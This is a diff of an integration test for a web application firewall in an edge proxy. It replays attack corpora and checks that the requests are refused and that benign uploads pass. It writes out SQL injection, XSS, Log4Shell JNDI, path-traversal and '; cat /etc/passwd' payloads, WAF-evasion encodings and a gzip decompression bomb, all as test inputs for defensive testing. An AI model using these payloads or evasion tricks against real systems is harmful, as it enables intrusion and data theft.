@@ -1,34 +1,50 @@
-// baseprotection through a real edge: the shared corpus (GoTestWAF's attack sets and its
-// false-positive set) replayed as requests, each from its own client address (given by a trusted
-// proxy, so that bans do not mix the cases up); refused requests never reach the backend; the
-// temporary ban and the per-client rate limit; scanners and protocol violations.
+// baseprotection through a real edge with a real backend: the GoTestWAF corpus's held-out part,
+// the project's own attack set and realistic benign set replayed as requests, each from its own
+// client address (given by a trusted proxy, so that bans do not mix the cases up); every known
+// walk-around (large, chunked and compressed bodies, invalid UTF-8, parameter pollution, headers,
+// multipart and JSON tricks) refused; refused requests never reach the backend; uploads of real
+// binary files pass whole; the temporary ban and the per-client rate limit; scanners and protocol
+// violations.
+import { createHash } from 'node:crypto';
 import { createServer, request, type Server } from 'node:http';
+import { deflateSync, gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runAdminCli, startServe, stopProcess, type RunningServer } from '../helpers/spawn-palisade.ts';
 import { removeTempDirs, tempDir } from '../helpers/temp.ts';
-import { attackCases, benignCases, requestFor, type CorpusRequest } from '../helpers/waf-corpus.ts';
+import { attackCases, benignCases, benignSet, multipart, ownAttacks, requestFor, type CorpusRequest } from '../helpers/waf-corpus.ts';
 
-/** What this note reports (docs/edge.md); the test fails if the edge does worse. */
-const MIN_DETECTION = 0.96;
-const MAX_FALSE_POSITIVES = 0.0;
+/** What docs/edge.md reports at the default level (1); the test fails if the edge does worse. */
+const MIN_HELD_OUT = 0.5; // half the corpus is base64, decoded from level 2 on
+const MIN_OWN_PER_CLASS = 0.9;
+const MAX_BENIGN = 0.05;
 
 let server: RunningServer;
 let backend: Server;
 let reached = 0;
+/** sha256 of each body the backend received, by request path. */
+const received = new Map<string, string>();
 let clientCounter = 0;
 
-function send(req: CorpusRequest, host: string, client?: string, localAddress = '127.0.0.9') {
+interface Sent extends CorpusRequest {
+  /** Send the body chunked (no Content-Length), in pieces of this size. */
+  chunked?: number;
+}
+
+function send(req: Sent, host: string, client?: string, localAddress = '127.0.0.9') {
   const url = new URL(server.edgeUrl!);
   return new Promise<{ status: number; body: string; headers: import('node:http').IncomingHttpHeaders }>((resolve, reject) => {
     const headers: Record<string, string> = { host, ...req.headers, ...(client && { 'x-forwarded-for': client }) };
-    if (req.body) headers['content-length'] = String(req.body.length);
+    if (req.body && !req.chunked) headers['content-length'] = String(req.body.length);
     const r = request({ host: url.hostname, port: url.port, path: req.path, method: req.method, localAddress, agent: false, headers }, (res) => {
       let body = '';
       res.on('data', (c: Buffer) => (body += c.toString()));
       res.on('end', () => resolve({ status: res.statusCode!, body, headers: res.headers }));
     });
     r.on('error', reject);
-    r.end(req.body);
+    if (req.body && req.chunked) {
+      for (let at = 0; at < req.body.length; at += req.chunked) r.write(req.body.subarray(at, at + req.chunked));
+      r.end();
+    } else r.end(req.body);
   });
 }
 
@@ -40,8 +56,12 @@ const nextClient = () => {
 beforeAll(async () => {
   backend = createServer((req, res) => {
     reached++;
-    req.resume();
-    req.on('end', () => res.end('ok'));
+    const hash = createHash('sha256');
+    req.on('data', (c: Buffer) => hash.update(c));
+    req.on('end', () => {
+      received.set(req.url ?? '/', hash.digest('hex'));
+      res.end('ok');
+    });
   });
   await new Promise<void>((r) => backend.listen(0, '127.0.0.1', r));
   const port = (backend.address() as { port: number }).port;
@@ -62,37 +82,110 @@ afterAll(async () => {
 });
 
 describe('edge: baseprotection (WAF)', () => {
-  it('blocks the attack corpus and passes the false-positive set, each case from its own address; blocked requests never reach the backend', async () => {
-    const byType = new Map<string, { blocked: number; total: number }>();
+  const refused = (status: number) => status >= 400 && status < 500;
+
+  it("refuses the corpus's held-out part, the own attack set, passes the benign sets; refused requests never reach the backend", async () => {
     const reachedBefore = reached;
-    let passedAttacks = 0;
-    for (const c of attackCases()) {
-      const req = requestFor(c);
-      if (!req) continue;
-      const res = await send(req, 'waf.example', nextClient());
-      const entry = byType.get(c.type) ?? { blocked: 0, total: 0 };
-      entry.total++;
-      // Refused by the edge: 403 (rules), 400/405/414/431 (protocol checks).
-      if (res.status >= 400 && res.status < 500) entry.blocked++;
-      else passedAttacks++;
-      byType.set(c.type, entry);
-    }
-    expect(reached - reachedBefore).toBe(passedAttacks);
+    let passed = 0;
+    const tally = async (label: string, cases: Array<[string, CorpusRequest]>) => {
+      const byClass = new Map<string, { blocked: number; total: number }>();
+      for (const [cls, req] of cases) {
+        const res = await send(req, 'waf.example', nextClient());
+        const entry = byClass.get(cls) ?? { blocked: 0, total: 0 };
+        entry.total++;
+        if (refused(res.status)) entry.blocked++;
+        else passed++;
+        byClass.set(cls, entry);
+      }
+      for (const [cls, { blocked, total }] of byClass) console.log(`${label} ${cls.padEnd(16)} ${blocked}/${total}`);
+      return byClass;
+    };
+    const heldOut = await tally('held-out', attackCases('held-out').flatMap((c) => (requestFor(c) ? [[c.type, requestFor(c)!] as [string, CorpusRequest]] : [])));
+    const own = await tally('own', ownAttacks().map((a) => [a.class, a]));
+    expect(reached - reachedBefore).toBe(passed);
+    const sum = (m: Map<string, { blocked: number; total: number }>) => [...m.values()].reduce((a, b) => [a[0]! + b.blocked, a[1]! + b.total], [0, 0]);
+    const [h, ht] = sum(heldOut);
+    expect(h! / ht!).toBeGreaterThanOrEqual(MIN_HELD_OUT);
+    for (const [cls, { blocked, total }] of own) expect(blocked / total, cls).toBeGreaterThanOrEqual(MIN_OWN_PER_CLASS);
+
     let falsePositives = 0;
-    let benign = 0;
-    for (const c of benignCases()) {
-      const req = requestFor(c);
-      if (!req) continue;
-      benign++;
-      if ((await send(req, 'waf.example', nextClient())).status !== 200) falsePositives++;
+    let uploads = 0;
+    const benign = [...benignCases().flatMap((c) => (requestFor(c) ? [{ ...requestFor(c)!, kind: 'gotestwaf' }] : [])), ...benignSet()];
+    for (const req of benign) {
+      const res = await send(req, 'waf.example', nextClient());
+      if (res.status !== 200) {
+        falsePositives++;
+        if (req.kind === 'upload') uploads++;
+      }
     }
-    const blocked = [...byType.values()].reduce((a, b) => a + b.blocked, 0);
-    const total = [...byType.values()].reduce((a, b) => a + b.total, 0);
-    for (const [type, { blocked: b, total: t }] of byType) console.log(`${type.padEnd(16)} ${b}/${t} (${((100 * b) / t).toFixed(0)}%)`);
-    console.log(`detection ${blocked}/${total} (${((100 * blocked) / total).toFixed(1)}%), false positives ${falsePositives}/${benign} (${((100 * falsePositives) / benign).toFixed(1)}%)`);
-    expect(blocked / total).toBeGreaterThanOrEqual(MIN_DETECTION);
-    expect(falsePositives / benign).toBeLessThanOrEqual(MAX_FALSE_POSITIVES);
-  }, 120_000);
+    console.log(`held-out ${h}/${ht}; benign false positives ${falsePositives}/${benign.length}, uploads ${uploads}`);
+    expect(uploads).toBe(0);
+    expect(falsePositives / benign.length).toBeLessThanOrEqual(MAX_BENIGN);
+  }, 180_000);
+
+  it('passes uploads of real binary files whole, and one past the inspection limit (1 MiB) too', async () => {
+    const upload = benignSet().filter((r) => r.kind === 'upload');
+    expect(upload.length).toBeGreaterThanOrEqual(19);
+    for (const req of upload) {
+      const path = `/upload-${upload.indexOf(req)}`;
+      expect((await send({ ...req, path }, 'waf.example', nextClient())).status).toBe(200);
+      expect(received.get(path)).toBe(createHash('sha256').update(req.body!).digest('hex'));
+    }
+    // 1.5 MB of file: its first MiB is inspected, then it is handed back and sent whole.
+    const big = multipart({ title: 'archive' }, { field: 'file', name: 'big.bin', type: 'application/octet-stream', bytes: Buffer.concat(Array.from({ length: 24 }, (_, i) => createHash('sha512').update(String(i)).digest()).map((b) => Buffer.concat(Array(1000).fill(b)))) });
+    const res = await send({ method: 'POST', path: '/upload-big', headers: { 'content-type': big.contentType }, body: big.body }, 'waf.example', nextClient());
+    expect(res.status).toBe(200);
+    expect(received.get('/upload-big')).toBe(createHash('sha256').update(big.body).digest('hex'));
+  });
+
+  it('leaves no walk-around: large, chunked and compressed bodies, invalid UTF-8, repeated parameters, headers, multipart and JSON tricks', async () => {
+    const attack = "1' UNION SELECT password FROM users-- -";
+    const form = (text: string) => Buffer.from(`q=${encodeURIComponent(text)}`);
+    const urlencoded = { 'content-type': 'application/x-www-form-urlencoded' };
+    const padding = `note=${'lorem ipsum dolor '.repeat(5000)}&`; // ~90 KB
+    const cases: Array<[string, Sent]> = [
+      ['body over 64 KiB', { method: 'POST', path: '/', headers: urlencoded, body: Buffer.concat([Buffer.from(padding), form(attack)]) }],
+      ['chunked body', { method: 'POST', path: '/', headers: urlencoded, body: form(attack), chunked: 7 }],
+      ['chunked body over 64 KiB', { method: 'POST', path: '/', headers: urlencoded, body: Buffer.concat([Buffer.from(padding), form(attack)]), chunked: 16_384 }],
+      ['gzip body', { method: 'POST', path: '/', headers: { ...urlencoded, 'content-encoding': 'gzip' }, body: gzipSync(form(attack)) }],
+      ['deflate body', { method: 'POST', path: '/', headers: { ...urlencoded, 'content-encoding': 'deflate' }, body: deflateSync(form(attack)) }],
+      ['invalid UTF-8 byte first', { method: 'GET', path: "/?id=%FF1'%20UNION%20SELECT%20password%20FROM%20users--", headers: {} }],
+      ['parameter pollution', { method: 'GET', path: "/?id=1'%20UNION/*&id=*/SELECT%20password%20FROM%20users--", headers: {} }],
+      ['cookie name', { method: 'GET', path: '/', headers: { cookie: `${encodeURIComponent('<svg onload=alert(1)>')}=1` } }],
+      ['Accept-Language', { method: 'GET', path: '/', headers: { 'accept-language': attack } }],
+      ['Accept', { method: 'GET', path: '/', headers: { accept: 'text/html, <script>alert(1)</script>' } }],
+      ['Content-Type parameter', { method: 'POST', path: '/', headers: { 'content-type': 'text/plain; charset=${jndi:ldap://x/a}' }, body: Buffer.from('hello') }],
+      ['Authorization scheme', { method: 'GET', path: '/', headers: { authorization: `Basic ${attack}` } }],
+      ['X- header', { method: 'GET', path: '/', headers: { 'x-original-url': '/admin/../../etc/passwd' } }],
+      ['Sec- header', { method: 'GET', path: '/', headers: { 'sec-fetch-user': '; cat /etc/passwd' } }],
+      ['multipart with LF line ends', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\nContent-Disposition: form-data; name="q"\n\n${attack}\n--b--\n`) }],
+      ['payload in filename=', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="f"; filename="../../etc/passwd"\r\n\r\nx\r\n--b--\r\n`) }],
+      ['payload in a part name', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="<svg onload=alert(1)>"\r\n\r\nx\r\n--b--\r\n`) }],
+      ['quoted-printable part', { method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n1=27 UNION SELECT password FROM users-- -\r\n--b--\r\n`) }],
+      ['JSON with a BOM as text/plain', { method: 'POST', path: '/', headers: { 'content-type': 'text/plain' }, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify({ q: attack }))]) }],
+      ['JSON duplicate keys', { method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: Buffer.from(`{"q": "${attack.replace(/'/g, "\\u0027")}", "q": "harmless"}`) }],
+      ['JSON \\u escapes', { method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: Buffer.from('{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}') }],
+    ];
+    for (const [name, req] of cases) {
+      const reachedBefore = reached;
+      const res = await send(req, 'waf.example', nextClient());
+      expect(res.status, name).toBe(403);
+      expect(reached, name).toBe(reachedBefore);
+    }
+    // The same harmless requests pass (the refusals above are the payloads', not the shapes').
+    expect((await send({ method: 'POST', path: '/', headers: urlencoded, body: Buffer.concat([Buffer.from(padding), form('hello')]), chunked: 16_384 }, 'waf.example', nextClient())).status).toBe(200);
+    expect((await send({ method: 'POST', path: '/', headers: { ...urlencoded, 'content-encoding': 'gzip' }, body: gzipSync(form('hello')) }, 'waf.example', nextClient())).status).toBe(200);
+  });
+
+  it('refuses a decompression bomb and a text body past the inspection limit (413, rule named)', async () => {
+    const bomb = gzipSync(Buffer.alloc(20 * 1024 * 1024, 'a'));
+    expect(bomb.length).toBeLessThan(64 * 1024);
+    const res = await send({ method: 'POST', path: '/', headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, body: bomb }, 'waf.example', nextClient());
+    expect(res.status).toBe(413);
+    const json = Buffer.from(JSON.stringify({ notes: 'x'.repeat(1_200_000) }));
+    expect((await send({ method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: json }, 'waf.example', nextClient())).status).toBe(413);
+    expect((await send({ method: 'POST', path: '/', headers: { 'content-type': 'application/json' }, body: json, chunked: 65_536 }, 'waf.example', nextClient())).status).toBe(413);
+  });
 
   it('answers 403 with a reference that the log line carries with the rule; a domain without baseprotection passes the same request', async () => {
     const attack = { method: 'GET', path: '/?id=1%27%20union%20select%20password%20from%20users--', headers: {} };
